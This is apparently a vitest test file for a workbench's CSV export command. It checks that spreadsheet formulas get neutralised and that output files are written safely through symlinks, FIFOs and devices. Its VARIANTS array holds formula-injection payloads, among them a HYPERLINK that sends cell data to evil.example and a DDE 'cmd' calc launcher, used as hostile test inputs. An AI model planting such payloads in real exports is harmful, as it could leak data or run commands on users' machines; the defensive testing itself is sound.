/**
 * Issue 9, items 6 and 7: `export --out` replaces only regular files atomically (devices, FIFOs and
 * symlinks are written through, directories refused, no temp file left), and free text in CSV
 * exports cannot run as a spreadsheet formula while numbers stay numbers.
 */
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, lstatSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Workbench } from '../../src-main/services/api';
import { neutraliseCell } from '../../src-main/services/csv';
import { INTER_CONDITIONS, INTRA_RATIOS } from '../../src-shared/domain';
import { csvRecords, hrlf, requireBuild, tempHome } from './helpers';

const VARIANTS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+SUM(1,2)', '@cmd', '-2+3+cmd|\' /C calc\'!A0', 'plain'];

let home: string;
let experiment: number;

/**
 * An experiment whose runs are stored as finished with made-up metrics (no training needed: the
 * exports read only the store). Corr is negative, so the exports must keep negative numbers.
 */
beforeAll(async () => {
  requireBuild();
  home = tempHome('hrlf-export-');
  const wb = new Workbench({ home, mode: 'cli', workQueue: false });
  const created = await wb.call('experiments.create', {
    methods: ['lf-linear'],
    datasets: ['synth-mosi'],
    seeds: [1111, 1112],
    epochs: 1,
    // Distinct configs, so each variant is its own row in the results.
    variants: VARIANTS.map((name, i) => ({ name, config: { lr: 0.001 * (i + 1) } })),
  });
  if (!created.ok) throw new Error(created.error.message);
  experiment = (created.output as { id: number }).id;
  const runs = wb.store.runs.listByExperiment(experiment);
  runs.forEach((run, i) => {
    const metrics = { mae: 1.1, corr: -0.25 - i / 100, acc7: 0.2, acc5: 0.25, acc2_has0: 0.6, f1_has0: 0.6, acc2_non0: 0.62, f1_non0: 0.61 + i / 100 };
    wb.store.runs.claim(run.id, process.pid, 'test-host');
    wb.store.runs.setBackend(run.id, 'cpu');
    for (const condition of [...INTER_CONDITIONS, 'avg']) wb.store.runs.addEvaluation(run.id, { protocol: 'inter', condition, metrics });
    for (const p of INTRA_RATIOS) wb.store.runs.addEvaluation(run.id, { protocol: 'intra', condition: p.toFixed(1), metrics });
    wb.store.runs.finish(run.id, 'finished', { outcome: 'completed', timings: { trainSeconds: 1, totalSeconds: 2 } });
  });
  wb.close();
});

describe('CSV exports neutralise formulas (issue 9, item 7)', () => {
  it('prefixes text cells a spreadsheet would evaluate, leaves numbers and mean ± std cells alone', () => {
    expect(neutraliseCell('=1+1')).toBe("'=1+1");
    expect(neutraliseCell('+SUM(1,2)')).toBe("'+SUM(1,2)");
    expect(neutraliseCell('-2+3+cmd')).toBe("'-2+3+cmd");
    expect(neutraliseCell('@cmd')).toBe("'@cmd");
    expect(neutraliseCell('\t=1')).toBe("'\t=1");
    expect(neutraliseCell('\r=1')).toBe("'\r=1");
    for (const inert of ['-0.5', '-12', '+3', '-1e-5', '-3.20* ± 0.41', '-0.12 ± 0.03', '0.5', 'synth-mosi', 'a=b', '']) expect(neutraliseCell(inert)).toBe(inert);
  });

  it('csv and csv-wide exports of an experiment with hostile variant names', async () => {
    for (const format of ['csv', 'csv-wide', 'csv-wide-corr']) {
      const out = join(home, `${format}.csv`);
      const flags = format === 'csv-wide-corr' ? ['--format', 'csv-wide', '--metric', 'corr'] : ['--format', format];
      const r = await hrlf(['export', '--experiment', String(experiment), ...flags, '--out', out], home);
      expect(r.code, r.stderr).toBe(0);
      const [header, ...rows] = csvRecords(readFileSync(out, 'utf8'));
      const variant = header!.indexOf('variant');
      const seen = new Set(rows.map((row) => row[variant]!).filter((v) => v !== ''));
      expect(seen).toEqual(new Set(VARIANTS.map((v) => (v === 'plain' ? v : `'${v}`))));
      for (const row of rows) for (const cell of row) expect(cell, `${format}: ${cell}`).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?( ± [\d.]+)?$)/);
      if (format === 'csv') {
        const value = header!.indexOf('value');
        const values = rows.map((row) => row[value]!).filter((v) => v !== '');
        for (const v of values) expect(Number.isFinite(Number(v)), v).toBe(true);
        expect(values).toContain('-0.25');
      }
      if (format === 'csv-wide-corr') {
        // Negative means stay as written: "-0.255 ± 0.007" style cells, no quote in front.
        const avg = header!.indexOf('Avg.');
        const ours = rows.filter((row) => row[header!.indexOf('source')] === 'ours').map((row) => row[avg]!);
        expect(ours.length).toBe(VARIANTS.length);
        for (const cell of ours) expect(cell).toMatch(/^-\d+\.\d+ ± \d+\.\d+$/);
      }
    }
  });
});

describe('export --out (issue 9, item 6)', () => {
  const exportTo = (out: string) => hrlf(['export', '--experiment', String(experiment), '--format', 'csv', '--out', out], home);
  const expected = (): string => readFileSync(join(home, 'csv.csv'), 'utf8');
  let dir: string;
  beforeAll(() => {
    dir = join(home, 'out');
    mkdirSync(dir);
  });
  afterAll(() => {
    // No temp file anywhere we wrote.
    expect(readdirSync(dir).filter((n) => n.includes('.tmp-'))).toEqual([]);
  });

  it('creates a new file and replaces a regular file atomically, keeping its mode', async () => {
    const file = join(dir, 'results.csv');
    expect((await exportTo(file)).code).toBe(0);
    expect(readFileSync(file, 'utf8')).toBe(expected());
    writeFileSync(file, 'old');
    chmodSync(file, 0o600);
    expect((await exportTo(file)).code).toBe(0);
    expect(readFileSync(file, 'utf8')).toBe(expected());
    expect(statSync(file).mode & 0o777).toBe(0o600);
  });

  it('refuses a directory and leaves no temp file behind', async () => {
    const target = join(dir, 'a-folder');
    mkdirSync(target);
    const r = await exportTo(target);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--out .*a-folder: is a directory; expected a file name/);
    expect(readdirSync(target)).toEqual([]);
    expect(readdirSync(dir).filter((n) => n.includes('.tmp-'))).toEqual([]);
  });

  it('writes through a symlink (the link stays a link) and through a dangling one', async () => {
    const real = join(dir, 'real.csv');
    writeFileSync(real, 'old');
    const link = join(dir, 'link.csv');
    symlinkSync(real, link);
    expect((await exportTo(link)).code).toBe(0);
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(readFileSync(real, 'utf8')).toBe(expected());

    const dangling = join(dir, 'dangling.csv');
    symlinkSync(join(dir, 'created-by-export.csv'), dangling);
    expect((await exportTo(dangling)).code).toBe(0);
    expect(lstatSync(dangling).isSymbolicLink()).toBe(true);
    expect(readFileSync(join(dir, 'created-by-export.csv'), 'utf8')).toBe(expected());
  });

  it('writes a FIFO in place (the reader gets the CSV, the FIFO stays a FIFO)', async () => {
    const fifo = join(dir, 'pipe');
    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
    const reader = spawn('cat', [fifo]);
    let got = '';
    reader.stdout.on('data', (c: Buffer) => (got += String(c)));
    const ended = new Promise((resolve) => reader.on('close', resolve));
    try {
      expect((await exportTo(fifo)).code).toBe(0);
      await ended;
    } finally {
      reader.kill();
    }
    expect(got).toBe(expected());
    expect(lstatSync(fifo).isFIFO()).toBe(true);
  }, 30_000);

  it.skipIf(process.getuid?.() !== 0)('as root, a device node is written in place, never replaced (a private copy of /dev/full and /dev/null)', async () => {
    const full = join(dir, 'full');
    const nul = join(dir, 'null');
    expect(spawnSync('mknod', [full, 'c', '1', '7']).status).toBe(0);
    expect(spawnSync('mknod', [nul, 'c', '1', '3']).status).toBe(0);
    const r = await exportTo(full);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/cannot write to .*full: .*no space left on device/i);
    expect(lstatSync(full).isCharacterDevice()).toBe(true);
    expect((await exportTo(nul)).code).toBe(0);
    expect(lstatSync(nul).isCharacterDevice()).toBe(true);
  });
});
